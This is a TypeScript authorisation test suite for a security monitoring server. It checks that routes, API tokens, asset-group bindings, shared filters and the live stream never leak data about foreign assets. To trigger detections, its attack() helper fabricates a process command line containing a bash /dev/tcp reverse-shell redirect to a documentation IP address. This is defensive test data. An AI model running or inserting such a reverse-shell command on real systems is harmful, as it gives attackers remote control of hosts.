/** Walks every route × no session, every role, and every role bound to another asset group: the table decides, and nothing leaks. */
import assert from 'node:assert/strict'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { Database, SqliteAlertStore } from '@rampart/alert'
import { type Route, type RouteName, routes } from '@rampart/api'
import { until } from '../../../../test/until.ts'
import { Quarantine } from '../response/quarantine.ts'
import type { StoredOperation } from '../response/task-store.ts'
import { migrations } from '../store/migrations.ts'
import { People } from '../store/people.ts'
import { type Role, roles } from '../store/user-record.ts'
import { bodies, queries } from '../testing/route-examples.ts'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { type Answer, TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'
import { mayDo } from './caller.ts'
import { hashPassword } from './passwords.ts'

const password = 'correct horse battery'
const table = Object.entries(routes) as [RouteName, Route][]
/** Roles that can be bound to asset groups. */
const bindable = roles.filter((role) => role !== 'administrator')

interface Protected {
  agent: TestAgent
  assetId: string
  alertId: string
}
let shared: TestServer
let own: Protected
let foreign: Protected
/** What an answer about the foreign asset would contain. */
let markers: string[] = []
/** Ids of what was decided about the foreign asset. */
let things: string[] = []
const open = new Map<string, TestConsole>()

before(async () => {
  shared = await startTestServer({ requestsPerMinute: 100_000, silentAfterMs: 3_600_000 })
  const admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  const protect = async (name: string, command: string, group: string): Promise<Protected> => {
    const enrolment = await enrolAgent(shared.server.createEnrolmentToken().token, undefined, name)
    const agent = new TestAgent(enrolment, 'spool-1', name)
    const { assetId } = agent.enrolment
    await inDatabase((database) => new SqliteAlertStore(database).saveAsset({ id: assetId, group }, Date.now()))
    await agent.connect()
    await attack(agent, 1, command)
    const [alert] = (await admin.call('listAlerts', { query: `asset=${assetId}` })).body.items
    assert.equal(alert.asset.group, group)
    return { agent, assetId, alertId: alert.id }
  }
  own = await protect('own-host', 'own-command', 'blue')
  foreign = await protect('foreign-host', 'foreign-command', 'red')
  markers = [foreign.assetId, foreign.alertId, 'foreign-']
  await decideAbout(admin, foreign)
  await inDatabase(async (database) => {
    const people = new People(database)
    const hashed = await hashPassword(password)
    for (const role of roles) people.add(role, role, hashed, false, Date.now())
    for (const role of bindable) {
      people.add(`${role}-blue`, role, hashed, false, Date.now())
      people.setGroups(`${role}-blue`, ['blue'])
    }
  })
})
after(async () => {
  own.agent.cut()
  foreign.agent.cut()
  await shared?.end()
})

/** One of everything that people make about an asset; each leaves its id in `things`. */
async function decideAbout(admin: TestConsole, { assetId, alertId }: Protected): Promise<void> {
  const make = async (name: RouteName, call: { id?: string; body?: unknown }) => {
    const answer = await admin.call(name, call)
    assert.equal(answer.status, 200, `${name}: ${JSON.stringify(answer.body)}`)
    return answer.body
  }
  const version = async () => (await admin.call('getAlert', { id: alertId })).body.version
  const incident = (await admin.call('getAlert', { id: alertId })).body.incidentId
  const conditions = [{ field: 'process.commandLine', operator: 'contains', value: 'foreign-whitelisted' }]
  const rule = { conditions, about: { type: 'Persistence' }, on: { asset: assetId }, reason: 'foreign-reason' }
  const block = { address: '198.51.100.77', assets: [assetId], reason: 'foreign-reason' }
  const bruteForce = { enabled: true, services: ['SSH'], windowMs: 60_000, failures: 2, banMs: null }
  const collection = { defaultLogs: true, logs: [{ kind: 'text', path: '/srv/foreign-log' }], receivers: [] }
  const note = { operation: 'add note', note: 'foreign-note' }
  await make('handleAlert', { id: alertId, body: { ...note, version: await version() } })
  await make('switchDefenceItem', { id: 'webshell', body: { scope: { groups: ['foreign-group'], assets: [assetId] } } })
  await make('setBruteForceRule', { body: { asset: assetId, rule: bruteForce } })
  await make('setCollection', { id: assetId, body: collection })
  things = [
    (await make('respondOnAsset', { id: assetId, body: { name: 'troubleshoot', note: 'foreign-note' } })).id,
    (await make('createIpRule', { body: block })).id,
    (await make('createWhitelistRule', { body: rule })).rule.id,
    (await make('saveFilter', { body: { name: 'foreign-filter', search: 'q=foreign-command', shared: true } })).id,
    (await make('startBatch', { body: { ...note, alerts: [{ id: alertId, version: await version() }] } })).id,
    ...(incident ? [incident] : []),
  ]
  const quarantined = await inDatabase(async (database) => {
    const operation = { id: 'op-x', actor: 'admin', alertId } as StoredOperation
    new Quarantine(database).add('qf-foreign', assetId, '/opt/foreign-file', operation, 'foreign-model', Date.now())
    return 'qf-foreign'
  })
  things.push(quarantined)
}

/** Raises an alert whose row, details and evidence contain `word`. */
function attack(agent: TestAgent, number: number, word: string): Promise<void> {
  const commandLine = `${word} >& /dev/tcp/198.51.100.1/1`
  return agent.deliver(number, [agent.started(number, commandLine, 4242, `/opt/${word}`)])
}

async function inDatabase<T>(body: (database: Database) => Promise<T>): Promise<T> {
  const opened = Database.open(join(shared.directory, 'state', 'rampart.db'), migrations)
  assert.ok(opened.ok)
  try {
    return await body(opened.database)
  } finally {
    opened.database.close()
  }
}

/** Calls a route as a user (null: nobody). Users that only read keep their session. */
async function callAs(user: string | null, name: RouteName, id: string): Promise<Answer> {
  const route: Route = routes[name]
  let browser = open.get(user ?? '')
  if (!browser) {
    browser = new TestConsole(shared.server.consoleUrl)
    if (user) assert.equal((await browser.signIn(user, password)).status, 200)
    open.set(user ?? '', browser)
  }
  const body = (bodies as Partial<Record<RouteName, unknown>>)[name]
  const answer = await browser.call(name, { id, body, query: queries[name] })
  // What ends or replaces a session must not be felt by the next route.
  if (route.method !== 'GET' && route.personal) open.delete(user ?? '')
  return answer
}

const barred = ['session.missing', 'session.not-allowed', 'request.csrf']

test('every route says what this test needs to know', () => {
  for (const [name, route] of table) {
    if (route.body) assert.ok(name in bodies, `${name} has a body: add an example to testing/route-examples.ts`)
    const parameters = [...route.path.matchAll(/:(\w+)/g)].map(([, parameter]) => parameter)
    assert.ok(
      parameters.every((parameter) => parameter === 'id') && parameters.length <= 1,
      `${name}: only :id is known`,
    )
    if (route.scope === 'alert' || route.scope === 'asset') assert.deepEqual(parameters, ['id'], name)
    if (route.role === 'public') assert.equal(route.scope, 'none', `${name}: nobody may see an asset`)
  }
})

test('every route × no session and every role: the table decides', async () => {
  for (const role of [null, ...roles] as (Role | null)[])
    for (const [name, route] of table) {
      const { status, body } = await callAs(role, name, 'none')
      const expected =
        route.role === 'public'
          ? 'in'
          : role === null
            ? 'session.missing'
            : mayDo(role, route.role)
              ? 'in'
              : 'session.not-allowed'
      assert.equal(barred.includes(body.code) ? body.code : 'in', expected, `${role} ${name}: ${status}`)
      if (expected === 'in')
        assert.notEqual(body.code, 'request.invalid', `${name}: ${body.message}; mend testing/route-examples.ts`)
    }
})

test('every route × API token: its role is a ceiling, its groups bound it, and it is nobody’s account', async () => {
  const admin = new TestConsole(shared.server.consoleUrl)
  await admin.signIn('administrator', password)
  const viewer = new TestConsole(shared.server.consoleUrl)
  await viewer.signIn('viewer', password)
  const tokenOf = async (browser: TestConsole, body: object) =>
    (await browser.call('createToken', { body: { title: 'walk', ...body } })).body.text as string
  const withToken = (text: string) => {
    const caller = new TestConsole(shared.server.consoleUrl)
    caller.bearer = text
    return caller
  }
  for (const role of roles) {
    const caller = withToken(await tokenOf(admin, { role }))
    for (const [name, route] of table) {
      if (route.method !== 'GET' && !route.personal && mayDo(role, route.role)) continue
      const { body } = await caller.call(name, { id: 'none', query: queries[name] })
      const expected =
        route.role === 'public'
          ? 'in'
          : route.personal
            ? 'token.not-allowed'
            : mayDo(role, route.role)
              ? 'in'
              : 'session.not-allowed'
      const found = [...barred, 'token.not-allowed'].includes(body.code) ? body.code : 'in'
      assert.equal(found, expected, `token of ${role}: ${name}`)
    }
  }
  const bound = withToken(await tokenOf(viewer, { role: 'viewer', groups: ['blue'] }))
  assert.equal((await bound.call('getAlert', { id: foreign.alertId })).status, 404)
  assert.equal((await bound.call('getAlert', { id: own.alertId })).status, 200)
  assert.equal((await bound.call('listAlerts')).body.total, 1)
  const tooHigh = await viewer.call('createToken', { body: { title: 'more', role: 'analyst' } })
  assert.equal(tooHigh.body.code, 'token.role-too-high')
})

test('every route about one alert or asset × role × asset group: a foreign one does not exist', async () => {
  for (const [name, route] of table) {
    if (route.scope !== 'alert' && route.scope !== 'asset') continue
    const idOf = (one: Protected) => (route.scope === 'alert' ? one.alertId : one.assetId)
    for (const role of bindable) {
      const theirs = await callAs(`${role}-blue`, name, idOf(foreign))
      const none = await callAs(`${role}-blue`, name, 'no-such-one')
      assert.deepEqual(theirs.body, none.body, `${role} ${name}: the answer tells that it exists`)
      if (!mayDo(role, route.role)) continue
      assert.deepEqual([theirs.status, theirs.body.code], [404, 'request.not-found'], `${role} ${name}`)
      const ours = await callAs(`${role}-blue`, name, idOf(own))
      assert.notEqual(ours.status, 404, `${role} ${name}: the own one is gone`)
    }
  }
})

test('no route that reads tells anything of a foreign asset, whatever its scope says', async () => {
  for (const [name, route] of table) {
    if (route.method !== 'GET') continue
    for (const role of bindable)
      for (const id of route.path.includes(':id')
        ? [foreign.alertId, foreign.assetId, own.alertId, own.assetId, ...things]
        : ['']) {
        const { body } = await callAs(`${role}-blue`, name, id)
        const text = JSON.stringify(body)
        for (const marker of markers) assert.ok(!text.includes(marker), `${role} ${name} ${id}: ${text.slice(0, 500)}`)
      }
  }
})

test('what people decided about a foreign asset does not exist either, for routes that read and for those that change', async () => {
  for (const [name, route] of table) {
    if (!route.path.includes(':id') || route.personal) continue
    for (const role of bindable) {
      const none = await callAs(`${role}-blue`, name, 'no-such-one')
      for (const id of things) {
        const theirs = await callAs(`${role}-blue`, name, id)
        assert.deepEqual([theirs.status, theirs.body], [none.status, none.body], `${role} ${name} ${id}`)
      }
    }
  }
  // The walk would see it: somebody who sees every asset gets an answer to each.
  for (const [name, id] of [
    ['getOperation', things[0]],
    ['switchIpRule', things[1]],
    ['changeWhitelistRule', things[2]],
    ['changeSavedFilter', things[3]],
  ] as [RouteName, string][])
    assert.notEqual((await callAs('responder', name, id)).status, 404, name)
})

test('lists, facets and numbers count what the caller may see', async () => {
  const counts = async (user: string) => {
    const { body: summary } = await callAs(user, 'getSummary', '')
    const { body: facets } = await callAs(user, 'alertFacets', '')
    const { body: models } = await callAs(user, 'listModels', '')
    return {
      alerts: (await callAs(user, 'listAlerts', '')).body.total,
      assets: (await callAs(user, 'listAssets', '')).body.total,
      summary: [summary.alertingServers.value, summary.allAlerts.value, summary.urgentAlerts.trend.at(-1)],
      groups: facets.group,
      fired: models.items.reduce((sum: number, model: { openAlerts: number }) => sum + model.openAlerts, 0),
    }
  }
  assert.deepEqual(await counts('viewer'), {
    alerts: 2,
    assets: 2,
    summary: [2, 2, 2],
    groups: { blue: 1, red: 1 },
    fired: 2,
  })
  assert.deepEqual(await counts('viewer-blue'), {
    alerts: 1,
    assets: 1,
    summary: [1, 1, 1],
    groups: { blue: 1 },
    fired: 1,
  })
})

test('a filter that somebody shares is there for who sees what its owner saw', async () => {
  const browserOf = async (user: string) => {
    const browser = new TestConsole(shared.server.consoleUrl)
    await browser.signIn(user, password)
    return browser
  }
  const names = async (browser: TestConsole) =>
    (await browser.call('listSavedFilters')).body.items.map((filter: { name: string }) => filter.name)
  const [wide, narrow] = [await browserOf('analyst'), await browserOf('analyst-blue')]
  const made = await narrow.call('saveFilter', { body: { name: 'of blue', search: 'q=x', shared: true } })
  assert.ok((await names(wide)).includes('of blue'))
  assert.ok((await names(await browserOf('viewer-blue'))).includes('of blue'))
  assert.ok((await names(wide)).includes('foreign-filter'))
  assert.ok(!(await names(narrow)).includes('foreign-filter'))
  // Bound to other groups since, the owner keeps it; who shares only the new groups does not get the old words.
  await inDatabase(async (database) => new People(database).setGroups('analyst-blue', ['red']))
  const { id } = made.body
  const renamed = await narrow.call('changeSavedFilter', { id, body: { name: 'of red' } })
  assert.equal(renamed.status, 200)
  await inDatabase(async (database) => new People(database).setGroups('responder-blue', ['red']))
  assert.ok(!(await names(await browserOf('responder-blue'))).includes('of red'))
  assert.ok(!(await names(await browserOf('viewer-blue'))).includes('of red'))
  assert.ok((await names(narrow)).includes('of red'))
  await inDatabase(async (database) => {
    for (const user of ['analyst-blue', 'responder-blue']) new People(database).setGroups(user, ['blue'])
  })
  const token = new TestConsole(shared.server.consoleUrl)
  const body = { title: 'narrow', role: 'viewer', groups: ['blue'] }
  token.bearer = (await wide.call('createToken', { body })).body.text
  await wide.call('saveFilter', { body: { name: 'own of foreign-host', search: 'q=x', shared: false } })
  assert.deepEqual(await names(token), [])
})

test('the live stream carries what the browser may see, also what it missed; other groups end it', async () => {
  const browser = new TestConsole(shared.server.consoleUrl)
  await browser.signIn('analyst-blue', password)
  const seen: { name: string; data: unknown; id: string }[] = []
  const take = (name: string, data: unknown, id: string) => seen.push({ name, data, id })
  const has = (text: string) => JSON.stringify(seen).includes(text)
  let stream = await browser.stream(take)
  await attack(foreign.agent, 2, 'foreign-live')
  await attack(own.agent, 2, 'own-live')
  await until('the alert', () => has('own-live'))
  await until('the summary', () =>
    seen.some(({ name, data }) => name === 'summary' && JSON.stringify(data).includes('"value":2')),
  )
  const last = seen.findLast((message) => message.id !== '')?.id ?? ''
  await stream.stop()
  await attack(foreign.agent, 3, 'foreign-missed')
  await attack(own.agent, 3, 'own-missed')
  stream = await browser.stream(take, last)
  await until('the missed alert', () => has('own-missed'))
  assert.ok(!has('foreign-'), 'something of the foreign asset was told')
  assert.ok(!seen.some(({ name, data }) => name === 'summary' && JSON.stringify(data).includes('"value":4')))
  await inDatabase(async (database) => new People(database).setGroups('analyst-blue', ['red']))
  // Another session that ends makes the server look at all of them.
  const other = new TestConsole(shared.server.consoleUrl)
  await other.signIn('viewer', password)
  await other.call('signOut')
  await stream.ended
  const after = await browser.call('listAlerts')
  assert.ok(after.body.items.every((alert: { asset: { group: string } }) => alert.asset.group === 'red'))
})
